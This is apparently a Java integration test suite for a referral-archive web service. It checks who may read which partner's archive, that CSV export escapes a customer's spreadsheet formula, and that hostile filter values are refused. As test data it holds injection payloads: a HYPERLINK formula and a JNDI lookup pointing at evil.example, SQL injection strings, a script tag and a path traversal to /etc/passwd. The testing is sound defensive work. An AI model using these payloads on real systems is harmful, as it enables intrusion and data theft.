package com.referraldesk.security;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.referraldesk.DueJobs;
import java.net.URLEncoder;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/**
 * The archive as partners, managers and attackers reach it over HTTP in demo mode: who may read which partner's
 * archive (the list, its CSV and the partners to choose from), a customer's formula that reaches the CSV as text,
 * and hostile filters refused naming the parameter.
 */
class ArchiveFromOutsideIT extends RunningApplication {

  private static final String CONTOSO_CSV = "/api/partners/contoso/archived-referrals.csv";

  @Test
  void eachPersonChoosesAmongTheArchivesTheyMayRead() throws Exception {
    assertThat(partnerIds("anna", "anna-demo")).containsExactly("contoso");
    assertThat(partnerIds("carla", "carla-demo")).containsExactly("contoso");
    assertThat(partnerIds("ben", "ben-demo")).containsExactly("fabrikam");
    assertThat(partnerIds("maria", "maria-demo")).contains("contoso", "fabrikam");
    assertThat(partnerIds("admin", "admin-demo")).contains("contoso", "fabrikam");
    assertThat(partnerIds("alex", "alex-demo")).as("analysts read no customer's data").isEmpty();
    assertThat(call("GET", "/api/archives", null, null).statusCode()).isEqualTo(401);
  }

  @Test
  void theCsvFollowsTheListsRules() throws Exception {
    assertThat(call("GET", CONTOSO_CSV, null, null).statusCode()).isEqualTo(401);
    assertThat(call("GET", CONTOSO_CSV, "anna", "anna-demo").statusCode()).isEqualTo(200);
    assertThat(call("GET", "/api/partners/fabrikam/archived-referrals.csv", "maria", "maria-demo").statusCode())
        .isEqualTo(200);
    HttpResponse<String> refused = call("GET", CONTOSO_CSV, "ben", "ben-demo");
    assertThat(refused.statusCode()).isEqualTo(403);
    assertThat(refused.headers().firstValue("Content-Type")).hasValue("application/problem+json");
    assertThat(JSON.readTree(refused.body()).get("detail").asText()).isEqualTo("ben may not read partner contoso");
    assertThat(refused.body()).doesNotContain("referralId");
  }

  @Test
  void aCustomersFormulaReachesThePartnersCsvAsText() throws Exception {
    String company = "=HYPERLINK(\"http://evil.example\",\"Invoice\")";
    String referralId = referralTo("csv-formula", company);
    String taskId = json(call("GET", "/engine-rest/task?processInstanceBusinessKey=" + referralId
        + "&taskDefinitionKey=Task_RespondToReferral&maxResults=10", "anna", "anna-demo")).get(0).get("id").asText();
    HttpResponse<String> declined = call("POST", "/engine-rest/task/" + taskId + "/submit-form", "anna", "anna-demo",
        "{\"variables\": {" + TaskCompletionAttackIT.DECLINE + "}}");
    assertThat(declined.statusCode()).as(declined.body()).isEqualTo(204);
    DueJobs.runAll(engine.getManagementService());

    HttpResponse<String> csv = call("GET", CONTOSO_CSV + "?state=DECLINED", "anna", "anna-demo");
    assertThat(csv.statusCode()).isEqualTo(200);
    assertThat(csv.headers().firstValue("Content-Disposition"))
        .hasValue("attachment; filename=\"contoso-archived-referrals.csv\"");
    String line = csv.body().lines().filter(l -> l.startsWith(referralId)).findFirst().orElseThrow();
    assertThat(line).contains(",DECLINED,")
        .contains(",\"'=HYPERLINK(\"\"http://evil.example\"\",\"\"Invoice\"\")\",")
        .contains(",no-capacity,Fully booked this quarter.,");
  }

  @ParameterizedTest(name = "{0}={1}")
  @CsvSource(delimiter = '|', quoteCharacter = '"', textBlock = """
      state      | WON' OR 1=1 --
      state      | <script>alert(1)</script>
      state      | ${jndi:ldap://evil.example/a}
      closedFrom | 2026-13-01
      closedTo   | 1 OR 1=1
      limit      | 99999999999999999999
      limit      | -1
      limit      | 100000
      after      | ../../../etc/passwd
      after      | ' union select * from act_id_user --
      """)
  void hostileFiltersAre400NamingTheParameter(String parameter, String value) throws Exception {
    String query = "?" + parameter + "=" + URLEncoder.encode(value, StandardCharsets.UTF_8);
    List<String> paths = new ArrayList<>(List.of("/api/partners/contoso/archived-referrals" + query));
    if (!parameter.equals("limit") && !parameter.equals("after")) {
      paths.add(CONTOSO_CSV + query); // the CSV has no pages
    }
    for (String path : paths) {
      HttpResponse<String> answer = call("GET", path, "anna", "anna-demo");
      assertThat(answer.statusCode()).as(path + " " + answer.body()).isEqualTo(400);
      assertThat(answer.headers().firstValue("Content-Type")).hasValue("application/problem+json");
      JsonNode problem = JSON.readTree(answer.body());
      assertThat(problem.get("errors").get(0).get("field").asText()).isEqualTo(parameter);
      assertThat(answer.body()).doesNotContain("Exception", "org.", "referralId");
    }
  }

  @Test
  void aRangeThatEndsBeforeItStartsIsRefusedForTheListAndTheCsv() throws Exception {
    for (String path : List.of("/api/partners/contoso/archived-referrals", CONTOSO_CSV)) {
      HttpResponse<String> answer = call("GET", path + "?closedFrom=2026-03-06&closedTo=2026-03-05", "anna",
          "anna-demo");
      assertThat(answer.statusCode()).as(path).isEqualTo(400);
      assertThat(JSON.readTree(answer.body()).get("detail").asText()).isEqualTo(
          "closedFrom must not be after closedTo (2026-03-05); closedTo must not be before closedFrom (2026-03-06)");
    }
  }

  private List<String> partnerIds(String user, String password) throws Exception {
    List<String> ids = new ArrayList<>();
    json(call("GET", "/api/archives", user, password)).forEach(archive -> ids.add(archive.get("partnerId").asText()));
    return ids;
  }

  /** A customer's RFI to Contoso only, from the US, where Contoso Seattle runs journey A. */
  private String referralTo(String requestId, String company) throws Exception {
    HttpResponse<String> sent = call("POST", "/api/rfis", null, null, """
        {"requestId": "%s", "source": "customer-search", "contactRequested": false, "findBestMatches": false,
         "partners": ["contoso"],
         "customer": {"company": %s, "contactName": "Lena", "email": "lena@litware.example", "country": "US",
                      "companySize": "medium", "industry": "retail"},
         "need": {"details": "One ERP for 40 stores.", "keywords": ["erp"]}}"""
        .formatted(requestId, JSON.writeValueAsString(company)));
    assertThat(sent.statusCode()).as(sent.body()).isEqualTo(202);
    String rfiId = JSON.readTree(sent.body()).get("rfiId").asText();
    DueJobs.runAll(engine.getManagementService());
    JsonNode rfi = json(call("GET", "/api/rfis/" + rfiId, null, null));
    assertThat(rfi.get("referrals")).hasSize(1);
    return rfi.get("referrals").get(0).get("referralId").asText();
  }
}
